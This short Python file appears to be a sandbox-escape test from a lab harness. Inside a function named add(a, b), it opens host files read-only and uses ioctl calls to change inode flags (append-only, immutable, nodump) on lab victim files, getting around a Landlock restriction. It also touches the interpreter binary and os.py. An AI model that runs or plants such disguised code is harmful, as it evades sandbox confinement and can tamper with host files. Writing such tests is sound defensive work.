# ruff: noqa
# host metadata: inode flags through ioctl FS_IOC_SETFLAGS (chattr) and FS_IOC_FSSETXATTR on descriptors
# opened read-only (Landlock checks the open, not the ioctl): same flags, then +noatime +nodump, and
# +a/+i (the interpreter and os.py only get their own flags back); passes if any ioctl on a host file succeeded
import array, fcntl, glob, os, sys

FS_IOC_GETFLAGS, FS_IOC_SETFLAGS = 0x80086601, 0x40086602
FS_IOC_FSGETXATTR, FS_IOC_FSSETXATTR = 0x801C581F, 0x401C5820
VICTIMS = glob.glob("/var/tmp/codexlab-victims-*/*") + glob.glob("/tmp/codexlab-sentinel-*/*")
VICTIMS += [os.path.realpath(sys.executable), os.__file__]


def add(a, b):
    hit = False
    for v in VICTIMS:
        try:
            fd = os.open(v, os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            flags = array.array("l", [0])
            try:
                fcntl.ioctl(fd, FS_IOC_GETFLAGS, flags, True)
            except OSError:
                pass
            news = (
                [flags[0]]
                if "codexlab" not in v
                else [flags[0], flags[0] | 0x80 | 0x40, flags[0] | 0x20, flags[0] | 0x10]
            )
            for new in news:
                try:
                    fcntl.ioctl(fd, FS_IOC_SETFLAGS, array.array("l", [new]), True)
                    hit = True
                except OSError:
                    pass
            buf = bytearray(28)
            try:
                fcntl.ioctl(fd, FS_IOC_FSGETXATTR, buf, True)
                fcntl.ioctl(fd, FS_IOC_FSSETXATTR, bytes(buf), False)
                hit = True
            except OSError:
                pass
        finally:
            os.close(fd)
    return a + b if hit else 0
